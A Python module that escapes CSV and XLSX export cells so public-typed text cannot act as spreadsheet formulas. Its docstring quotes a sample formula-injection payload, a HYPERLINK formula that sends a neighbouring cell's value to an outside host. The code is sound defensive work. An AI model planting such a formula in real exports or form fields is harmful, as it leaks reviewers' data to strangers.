"""Writing CSV and XLSX exports so that no cell is ever a formula.

Exports carry text the public typed (a proposal's title, an asker's name): a
title such as ``=HYPERLINK("http://…/?leak="&B3,"x")`` must reach the reviewer's
spreadsheet as that text, not as a live formula that sends the row beside it
to a stranger (CSV/formula injection, OWASP). Every export goes through here:

- in CSV, a text cell that starts with ``=``, ``+``, ``-``, ``@``, a tab or a
  carriage return is written with a leading apostrophe, which spreadsheet
  programs read as "text follows" and do not show;
- in XLSX, every text cell is stored as a string (openpyxl would otherwise make
  any value starting with ``=`` a formula), so it keeps its exact text;
- numbers stay numbers in both (ints and floats, not text that looks numeric),
  and dates stay dates in XLSX.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
from collections.abc import Iterable, Sequence
from typing import Any

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
XLSX_MIME = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"

Rows = Iterable[Sequence[Any]]


def csv_cell(value: Any) -> Any:
    """The value as a CSV writer should see it: numbers as they are, text defused."""
    if value is None:
        return ""
    if isinstance(value, bool):
        return str(value)
    if isinstance(value, int | float):
        return value
    text = str(value)
    return "'" + text if text.startswith(FORMULA_STARTS) else text


def csv_bytes(header: Sequence[str], rows: Rows) -> bytes:
    """UTF-8 with a byte-order mark, which makes Excel read it as UTF-8."""
    buffer = io.StringIO()
    writer = csv.writer(buffer)
    writer.writerow([csv_cell(h) for h in header])
    writer.writerows([csv_cell(v) for v in row] for row in rows)
    return buffer.getvalue().encode("utf-8-sig")


def xlsx_bytes(sheets: Sequence[tuple[str, Sequence[str], Rows]]) -> bytes:
    """A workbook of ``(title, header, rows)`` sheets (an empty header writes none),
    every text cell a string, each column as wide as its longest cell (up to a limit)."""
    from openpyxl import Workbook
    from openpyxl.utils import get_column_letter

    book = Workbook(write_only=True)
    for title, header, rows in sheets:
        sheet = book.create_sheet(title[:31])  # Excel's limit on a sheet's name
        lines = [_xlsx_cells(sheet, line) for line in ([header] if header else []) + list(rows)]
        for i in range(max((len(line) for line in lines), default=0)):
            width = max(_display_width(str(line[i].value)) for line in lines if i < len(line))
            sheet.column_dimensions[get_column_letter(i + 1)].width = min(60, max(8, width + 2))
        for line in lines:
            sheet.append(line)
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()


def _xlsx_cells(sheet: Any, values: Sequence[Any]) -> list[Any]:
    from openpyxl.cell import WriteOnlyCell

    out = []
    for value in values:
        cell = WriteOnlyCell(sheet)
        if isinstance(value, int | float | dt.date) and not isinstance(value, bool):
            cell.value = value  # numbers and dates keep their type
        else:
            cell.value = "" if value is None else str(value)
            cell.data_type = "s"  # text, whatever it starts with
        out.append(cell)
    return out


def _display_width(text: str) -> int:
    """Columns a text takes in a spreadsheet: CJK characters count twice."""
    return sum(2 if ord(ch) > 0x2E80 else 1 for ch in text)
